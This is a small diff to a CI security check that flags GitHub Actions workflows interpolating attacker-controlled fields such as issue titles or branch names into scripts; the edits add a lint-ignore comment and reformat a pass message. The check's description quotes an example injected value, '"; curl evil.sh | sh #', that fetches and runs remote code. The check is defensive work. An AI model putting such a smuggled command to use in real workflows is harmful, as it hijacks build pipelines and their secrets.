@@ -53,6 +53,7 @@ export default defineCheck({
   id: 'ci/workflow-untrusted-input-not-interpolated',
   title: 'Workflow scripts do not interpolate attacker-controlled event fields',
   description:
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JavaScript placeholder
     'GitHub substitutes `${{ … }}` into a script before the shell runs it, so an issue title, comment, ' +
     'branch name or commit message containing `"; curl evil.sh | sh #` becomes a command in your pipeline. ' +
     'Anyone on GitHub can set those fields; on pull_request_target, issue_comment and similar triggers the job ' +
@@ -70,7 +71,10 @@ export default defineCheck({
       const found = stepsOf(workflow).flatMap(interpolations)
       const first = found[0]
       if (first === undefined) {
-        return result.pass(workflow, 'no run script or github-script interpolates attacker-controlled event fields')
+        return result.pass(
+          workflow,
+          'no run script or github-script interpolates attacker-controlled event fields',
+        )
       }
       const privileged = workflow.triggers.filter((trigger) => privilegedTriggers.includes(trigger))
       const risk =
